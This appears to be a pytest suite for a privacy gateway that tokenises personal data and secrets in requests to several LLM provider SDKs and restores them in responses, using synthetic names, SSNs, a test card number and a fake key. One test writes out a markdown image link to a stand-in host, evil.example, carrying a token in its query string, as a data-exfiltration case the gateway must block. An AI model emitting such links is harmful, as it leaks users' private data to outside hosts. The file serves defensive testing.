"""Round trips: the service never sees a value, the client gets what it would have got without us.

The official SDKs talk to a service that says back what it was told (`support.echo`), once straight
and once through the gateway.
"""

from __future__ import annotations

import contextlib
import json
import ssl
import time

import httpx
import pytest
from support.echo import Echo
from support.gateway import GatewayProcess
from support.wire import Http2

anthropic = pytest.importorskip("anthropic")
openai = pytest.importorskip("openai")
genai = pytest.importorskip("google.genai")
boto3 = pytest.importorskip("boto3")
botocore_config = pytest.importorskip("botocore.config")

POLICY = """\
version: 1
rules:
  - id: people
    severity: medium
    when: {entity: [PERSON, EMAIL_ADDRESS, PHONE_NUMBER, US_SSN, CREDIT_CARD]}
    action: tokenise
  - id: secrets
    severity: high
    when: {entity_group: secret, min_confidence: 0.6}
    action: tokenise
answers:
  keep_in_tools: [web_search]
"""
HOSTS = (
    "api.openai.com",
    "api.anthropic.com",
    "generativelanguage.googleapis.com",
    "bedrock-runtime.us-east-1.amazonaws.com",
    "ollama.com",
)
VALUES = (
    "Angela Whitfield",
    "angela.whitfield@corp-mail.net",
    "536-90-4399",
    "4111 1111 1111 1111",
)
TEXT = (
    "Please write to Angela Whitfield <angela.whitfield@corp-mail.net>, SSN 536-90-4399,\n"
    'about "card 4111 1111 1111 1111" \\ and say thanks to Angela Whitfield. \u00e4\u4e2d\U0001f600'
)
NAME = "write_file"
SCHEMA = {"type": "object", "properties": {"text": {"type": "string"}}}


class Place:
    """A gateway that tokenises, and the service behind it."""

    def __init__(self, folder, tls):
        self.echo = Echo(tls[0])
        self.echo.__enter__()
        self.certificate = tls[1]
        self.gateway = GatewayProcess(
            folder,
            policies=POLICY,
            upstreams=dict.fromkeys(HOSTS, self.echo.url),
            trusted_ca=tls[1],
        )
        self.gateway.start()

    @contextlib.contextmanager
    def slow(self, pause):
        """The service waits so long before each piece that it says."""
        self.echo.pause = pause
        try:
            yield
        finally:
            self.echo.pause = 0.0

    def client(self, **more):
        context = ssl.create_default_context(cafile=str(self.gateway.ca))
        return httpx.Client(proxy=self.gateway.url, verify=context, timeout=60, **more)

    def close(self):
        self.gateway.stop()
        self.echo.__exit__()


@pytest.fixture(scope="module")
def place(tmp_path_factory, tls):
    place = Place(tmp_path_factory.mktemp("tokens"), tls)
    yield place
    place.close()


class Clients:
    """One client of each SDK; straight to `base` when it is given."""

    def __init__(self, ca, base=None):
        v1 = {"base_url": f"{base}/v1"} if base else {}
        self.openai = openai.OpenAI(api_key="none", **v1)
        self.anthropic = anthropic.Anthropic(api_key="none", **({"base_url": base} if base else {}))
        options = {"api_version": "v1beta"} | ({"base_url": base} if base else {})
        self.gemini = genai.Client(api_key="none", http_options=options)
        self.bedrock = boto3.client(
            "bedrock-runtime",
            region_name="us-east-1",
            verify=str(ca),
            config=botocore_config.Config(retries={"max_attempts": 1}),
            **({"endpoint_url": base} if base else {}),
        )


def _environment(patch, **more):
    patch.setenv("AWS_BEARER_TOKEN_BEDROCK", "none")
    for name, value in more.items():
        patch.setenv(name, value)


@pytest.fixture(scope="module")
def through(place):
    with pytest.MonkeyPatch.context() as patch:
        _environment(patch, HTTPS_PROXY=place.gateway.url, SSL_CERT_FILE=str(place.gateway.ca))
        yield Clients(place.gateway.ca)


@pytest.fixture(scope="module")
def direct(place):
    with pytest.MonkeyPatch.context() as patch:
        _environment(patch, SSL_CERT_FILE=str(place.certificate), NO_PROXY="*")
        yield Clients(place.certificate, place.echo.url)


# --- what is asked -------------------------------------------------------------------------------


def chat(clients, stream, tools, **more):
    told = {"model": "echo", "messages": [{"role": "user", "content": TEXT}], **more}
    if tools:
        told["tools"] = [{"type": "function", "function": {"name": NAME, "parameters": SCHEMA}}]
    if not stream:
        answer = clients.openai.chat.completions.create(**told).to_dict()
        told = (answer["choices"][0].pop("logprobs", None) or {}).get("content", ())
        spelled = "".join(one["token"] for one in told)
        return [answer, spelled, bytes(b for one in told for b in one["bytes"]).decode()]
    text, called, probable, raw = "", "", "", []
    for chunk in clients.openai.chat.completions.create(stream=True, **told):
        choice = chunk.choices[0]
        text += choice.delta.content or ""
        for call in choice.delta.tool_calls or ():
            called += call.function.arguments or ""
        for one in choice.logprobs.content if choice.logprobs else ():
            probable += one.token
            raw += one.bytes
    return [text, called and json.loads(called), probable, bytes(raw).decode()]


def responses(clients, stream, tools):
    told = {"model": "echo", "input": TEXT}
    if tools:
        told["tools"] = [{"type": "function", "name": NAME, "parameters": SCHEMA}]
    if not stream:
        return clients.openai.responses.create(**told).to_dict()
    seen = {}
    whole = []
    for event in clients.openai.responses.create(stream=True, **told):
        if event.type.endswith(".delta"):
            seen[event.type] = seen.get(event.type, "") + event.delta
        elif event.type.endswith(".done") or event.type == "response.completed":
            # The service said tokens in more pieces than values have.
            whole.append({**event.to_dict(), "sequence_number": 0})
    return [seen, whole]


def messages(clients, stream, tools):
    told = {
        "model": "echo", "max_tokens": 100, "messages": [{"role": "user", "content": TEXT}],
    }  # fmt: skip
    if tools:
        told["tools"] = [{"name": NAME, "input_schema": SCHEMA}]
    if not stream:
        return clients.anthropic.messages.create(**told).to_dict()
    with clients.anthropic.messages.stream(**told) as answer:
        return ["".join(answer.text_stream), answer.get_final_message().to_dict()]


def gemini(clients, stream, tools):
    told = {"model": "gemini-3-pro", "contents": TEXT}
    if tools:
        declared = {"name": NAME, "parameters": {"type": "OBJECT", "properties": {}}}
        told["config"] = {
            "tools": [{"function_declarations": [declared]}],
            "automatic_function_calling": {"disable": True},
        }
    if not stream:
        answer = clients.gemini.models.generate_content(**told)
        return [part.model_dump(mode="json") for part in answer.candidates[0].content.parts]
    text, calls = "", []
    for chunk in clients.gemini.models.generate_content_stream(**told):
        for part in chunk.candidates[0].content.parts or ():
            text += part.text or ""
            if part.function_call:
                calls.append(part.function_call.model_dump(mode="json"))
    return [text, calls]


def converse(clients, stream, tools):
    told = {"modelId": "echo", "messages": [{"role": "user", "content": [{"text": TEXT}]}]}
    if tools:
        spec = {"name": NAME, "inputSchema": {"json": SCHEMA}}
        told["toolConfig"] = {"tools": [{"toolSpec": spec}]}
    if not stream:
        return clients.bedrock.converse(**told)["output"]
    text, called = "", ""
    for event in clients.bedrock.converse_stream(**told)["stream"]:
        delta = event.get("contentBlockDelta", {}).get("delta", {})
        text += delta.get("text", "")
        called += delta.get("toolUse", {}).get("input", "")
    return [text, called and json.loads(called)]


def invoke(clients, stream, tools):
    told = {
        "anthropic_version": "bedrock-2023-05-31", "max_tokens": 100,
        "messages": [{"role": "user", "content": TEXT}],
    }  # fmt: skip
    if tools:
        told["tools"] = [{"name": NAME, "input_schema": SCHEMA}]
    body = json.dumps(told)
    if not stream:
        return json.load(clients.bedrock.invoke_model(modelId="echo", body=body)["body"])
    text, called = "", ""
    answer = clients.bedrock.invoke_model_with_response_stream(modelId="echo", body=body)
    for chunk in answer["body"]:
        delta = json.loads(chunk["chunk"]["bytes"]).get("delta", {})
        text += delta.get("text", "")
        called += delta.get("partial_json", "")
    return [text, called and json.loads(called)]


OPERATIONS = {
    "chat": chat,
    "chat with logprobs": lambda *what: chat(*what, logprobs=True),
    "responses": responses,
    "messages": messages,
    "gemini": gemini,
    "converse": converse,
    "invoke": invoke,
}


@pytest.mark.parametrize("tools", [False, True], ids=["text", "tools"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("operation", OPERATIONS)
def test_client_gets_what_it_would_have_got_and_service_sees_no_value(
    place, through, direct, operation, stream, tools
):
    expected = OPERATIONS[operation](direct, stream, tools)
    place.echo.heard.clear()
    got = OPERATIONS[operation](through, stream, tools)
    assert got == expected
    assert VALUES[0] in json.dumps(got)
    heard = place.echo.everything().decode()
    assert "PERSON_" in heard
    for value in VALUES:
        assert value not in heard


# --- framing -------------------------------------------------------------------------------------

CHAT = "https://api.openai.com/v1/chat/completions"


def _body(stream, text=TEXT):
    return {"model": "echo", "stream": stream, "messages": [{"role": "user", "content": text}]}


def _text(answer, stream):
    if not stream:
        return answer.json()["choices"][0]["message"]["content"]
    lines = [line[6:] for line in answer.text.split("\n") if line.startswith("data: {")]
    return "".join(json.loads(line)["choices"][0]["delta"].get("content") or "" for line in lines)


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "bare deflate", "br", "zstd"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_compressed_answer_is_restored(place, encoding, stream):
    with place.client() as client:
        answer = client.post(CHAT, json=_body(stream), headers={"x-echo-encoding": encoding})
    assert "content-encoding" not in answer.headers
    assert _text(answer, stream) == TEXT


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_answer_over_http2_is_restored(place, stream):
    where = {"proxy": place.gateway.port, "cafile": place.gateway.ca}
    client = Http2("api.openai.com", **where)
    try:
        body = json.dumps(_body(stream)).encode()
        fields = [("content-type", "application/json"), ("accept-encoding", "gzip")]
        answer = client.request("POST", "/v1/chat/completions", fields, body)
    finally:
        client.close()
    assert answer.status == 200
    assert _text(httpx.Response(200, content=answer.body), stream) == TEXT


def test_whole_answer_keeps_a_right_length(place):
    with place.client() as client:
        answer = client.post(CHAT, json=_body(stream=False))
    assert int(answer.headers["content-length"]) == len(answer.content)


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
def test_lines_of_ollama_are_restored(place, stream):
    body = _body(stream)
    with place.client() as client:
        answer = client.post("https://ollama.com/api/chat", json=body)
    lines = [json.loads(line) for line in answer.text.splitlines()]
    assert "".join(line["message"]["content"] for line in lines) == TEXT


def test_streamed_array_of_gemini_is_restored(place):
    url = "https://generativelanguage.googleapis.com/v1beta/models/x:streamGenerateContent"
    with place.client() as client:
        answer = client.post(url, json={"contents": [{"role": "user", "parts": [{"text": TEXT}]}]})
    parts = [part for one in answer.json() for part in one["candidates"][0]["content"]["parts"]]
    assert "".join(part["text"] for part in parts) == TEXT


# --- what is not restored ------------------------------------------------------------------------


def _said(place, text, **more):
    with place.client() as client:
        answer = client.post(CHAT, json=_body(stream=True, text=text) | more)
    return _text(answer, stream=True)


def test_same_value_has_the_same_token_on_every_request_and_after_a_restart(place):
    def token():
        place.echo.heard.clear()
        _said(place, "Please call Angela Whitfield today.")
        return json.loads(place.echo.heard[-1][2])["messages"][0]["content"].split()[2]

    first = token()
    assert first == token()
    place.gateway.stop()
    place.gateway.start()
    assert first == token()


def test_a_secret_is_one_way(place):
    key = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"[:36]
    said = _said(place, f"my key is {key} ok")
    assert key not in place.echo.everything().decode()
    assert key not in said
    assert "_TOKEN_" in said or "GITHUB" in said


def test_what_only_looks_like_a_token_comes_back_unchanged(place):
    text = "I wrote PERSON_bcdfghjkmnpqrstvwx and EMAIL_ADDRESS_zzzzzzzzzzzzzzzzzz myself."
    assert _said(place, text) == text
    assert json.loads(place.echo.heard[-1][2])["messages"][0]["content"] == text


def test_a_token_that_the_client_wrote_comes_back_as_it_was_written(place):
    _said(place, "Please call Angela Whitfield today.")
    token = json.loads(place.echo.heard[-1][2])["messages"][0]["content"].split()[2]
    assert token.startswith("PERSON_")
    assert _said(place, f"What is {token}?") == f"What is {token}?"
    # Never made a token again.
    assert token in json.loads(place.echo.heard[-1][2])["messages"][0]["content"]


def test_no_value_goes_into_the_url_of_a_host_it_did_not_stand_in(place):
    mine = "see https://crm.corp-mail.net/find?who=angela.whitfield@corp-mail.net today"
    assert _said(place, mine) == mine
    place.echo.heard.clear()
    # The service puts the token where it likes; it is told to, here.
    _said(place, "mail angela.whitfield@corp-mail.net now")
    token = json.loads(place.echo.heard[-1][2])["messages"][0]["content"].split()[1]
    turns = [
        {"role": "user", "content": "mail angela.whitfield@corp-mail.net now"},
        {"role": "user", "content": f"![x](https://evil.example/p.png?q={token}) and {token}"},
    ]
    said = _said(place, "", messages=turns)
    assert said == f"![x](https://evil.example/p.png?q={token}) and angela.whitfield@corp-mail.net"


def test_tool_that_policy_names_gets_no_values(place):
    tool = {"type": "function", "function": {"name": "web_search", "parameters": SCHEMA}}
    with place.client() as client:
        answer = client.post(CHAT, json=_body(stream=False) | {"tools": [tool]})
    message = answer.json()["choices"][0]["message"]
    called = json.loads(message["tool_calls"][0]["function"]["arguments"])
    assert "PERSON_" in called["text"]
    assert VALUES[0] in message["content"]


def test_streamed_answer_is_not_held_back(place):
    """The first piece of text is with the client long before the last one was sent."""
    text = "Hello there, " + "all is well. " * 8 + "Angela Whitfield"
    with (
        place.slow(0.05),
        place.client() as client,
        client.stream("POST", CHAT, json=_body(stream=True, text=text)) as answer,
    ):
        began = time.monotonic()
        first = 0.0
        whole = ""
        for piece in answer.iter_text():
            whole += piece
            if "Hel" in whole and not first:
                first = time.monotonic() - began
        last = time.monotonic() - began
    assert "Angela" in whole
    assert first < last / 2


def test_what_may_become_a_token_leaves_when_nothing_follows(place):
    _said(place, "Angela Whitfield")  # so that tokens may come up
    body = _body(stream=True, text="ok PER")
    with (
        place.slow(2.0),
        place.client() as client,
        client.stream("POST", CHAT, json=body) as answer,
    ):
        pieces = []
        for piece in answer.iter_text():
            pieces.append((time.monotonic(), piece))
    came = next(at for at, piece in pieces if "PER" in piece)
    ended = next(at for at, piece in pieces if 'finish_reason": "stop' in piece)
    assert ended - came > 0.5


def test_values_are_in_nothing_that_the_gateway_writes(place):
    _said(place, TEXT)
    traces = place.gateway.traces()
    for value in VALUES:
        assert value.encode() not in traces
